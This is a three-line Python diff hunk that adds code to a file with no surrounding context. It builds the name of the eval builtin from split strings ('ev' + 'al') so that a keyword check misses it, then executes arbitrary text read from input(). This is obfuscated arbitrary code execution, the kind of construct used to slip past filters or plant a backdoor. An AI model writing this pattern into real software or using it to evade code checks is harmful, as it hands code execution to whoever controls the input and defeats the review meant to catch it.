@@ -1,0 +1,3 @@
+b = globals()["__builtins__"]
+e = getattr(b, "ev" + "al")
+e(input())
